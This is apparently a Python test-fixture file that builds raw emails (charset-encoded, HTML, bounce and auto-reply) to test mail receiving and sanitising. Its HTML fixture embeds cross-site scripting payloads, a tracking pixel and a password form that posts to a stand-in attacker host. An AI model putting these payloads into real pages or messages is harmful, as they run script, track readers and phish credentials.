"""Raw emails as real clients send them (for the receiving tests and the benchmark)."""
from __future__ import annotations

import base64
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from datetime import datetime, timezone


def plain(frm: str = "jan@example.com", to: str = "office@example.com", subject: str = "Question",
          text: str = "Hello", message_id: str | None = None, in_reply_to: str = "", references: str = "",
          headers: dict | None = None) -> bytes:
    m = EmailMessage()
    m["From"] = frm
    m["To"] = to
    m["Subject"] = subject
    m["Date"] = format_datetime(datetime(2026, 12, 1, 10, 0, tzinfo=timezone.utc))
    m["Message-ID"] = message_id if message_id is not None else make_msgid(domain="client.example")
    if in_reply_to:
        m["In-Reply-To"] = in_reply_to
    if references:
        m["References"] = references
    for k, v in (headers or {}).items():
        m[k] = v
    m.set_content(text)
    return m.as_bytes()


def iso_8859_2_with_rfc2231_attachment() -> bytes:
    """Polish text in ISO-8859-2, quoted-printable; a subject in RFC 2047 words; an attachment
    named with RFC 2231 (continuations, percent-encoded ISO-8859-2)."""
    body = "Dzień dobry, w załączniku faktura. Proszę o potwierdzenie zapłaty.\n".encode("iso-8859-2")
    import quopri
    qp = quopri.encodestring(body).decode("ascii")
    pdf = base64.encodebytes(b"%PDF-1.4 fake faktura").decode("ascii")
    return ("From: =?ISO-8859-2?Q?Pawe=B3_=AF=F3=B3w?= <pawel@example.pl>\r\n"
            "To: office@example.com\r\n"
            "Subject: =?ISO-8859-2?Q?Faktura_za_pa=BCdziernik?=\r\n"
            "Message-ID: <faktura-1@example.pl>\r\n"
            "Date: Tue, 01 Dec 2026 10:00:00 +0100\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=\"XYZ\"\r\n"
            "\r\n"
            "--XYZ\r\n"
            "Content-Type: text/plain; charset=ISO-8859-2\r\n"
            "Content-Transfer-Encoding: quoted-printable\r\n"
            "\r\n" + qp.replace("\n", "\r\n") + "\r\n"
            "--XYZ\r\n"
            "Content-Type: application/pdf\r\n"
            "Content-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment;\r\n"
            " filename*0*=ISO-8859-2''Faktura%20za%20pa%BCdziernik;\r\n"
            " filename*1*=%20%B3%F3d%BC.pdf\r\n"
            "\r\n" + pdf.replace("\n", "\r\n") + "\r\n"
            "--XYZ--\r\n").encode("ascii")


def windows_1250_html(remote_image: str = "https://tracker.example/pixel.gif") -> bytes:
    html = ("<html><head><style>p{color:red}</style><script>alert('x')</script></head><body>"
            "<p onclick=\"steal()\">Zażółć gęślą jaźń</p>"
            f"<img src=\"{remote_image}\" width=\"1\" height=\"1\">"
            "<form action=\"https://evil.example/\"><input name=\"password\"></form>"
            "<svg onload=\"alert(1)\"><circle r=\"5\"/></svg>"
            "<a href=\"javascript:alert(1)\">click</a></body></html>")
    b64 = base64.encodebytes(html.encode("cp1250")).decode("ascii").replace("\n", "\r\n")
    return ("From: Anna <anna@example.pl>\r\nTo: office@example.com\r\nSubject: Strona\r\n"
            "Message-ID: <html-1@example.pl>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=windows-1250\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64).encode("ascii")


def bounce(original_message_id: str, recipient: str = "nobody@example.net",
           to: str = "office@example.com") -> bytes:
    return ("From: Mail Delivery System <MAILER-DAEMON@mx.example.com>\r\n"
            f"To: {to}\r\n"
            "Subject: Undelivered Mail Returned to Sender\r\n"
            "Message-ID: <bounce-" + original_message_id.split("@")[0][:20] + "@mx.example.com>\r\n"
            "Auto-Submitted: auto-replied\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/report; report-type=delivery-status; boundary=\"B\"\r\n\r\n"
            "--B\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
            "--B\r\nContent-Type: message/delivery-status\r\n\r\n"
            "Reporting-MTA: dns; mx.example.com\r\n\r\n"
            f"Final-Recipient: rfc822; {recipient}\r\n"
            "Action: failed\r\n"
            "Status: 5.1.1\r\n"
            f"Diagnostic-Code: smtp; 550 5.1.1 <{recipient}>: Recipient address rejected: User unknown\r\n"
            "\r\n--B\r\nContent-Type: text/rfc822-headers\r\n\r\n"
            f"From: office@example.com\r\nTo: {recipient}\r\nSubject: Re: Order\r\n"
            f"Message-ID: <{original_message_id}>\r\n"
            "\r\n--B--\r\n").encode("ascii")


def out_of_office(frm: str, to: str = "office@example.com", in_reply_to: str = "") -> bytes:
    return plain(frm=frm, to=to, subject="Automatic reply: out of office", text="I am away until Monday.",
                 in_reply_to=in_reply_to, references=in_reply_to,
                 headers={"Auto-Submitted": "auto-replied", "X-Autoreply": "yes"})
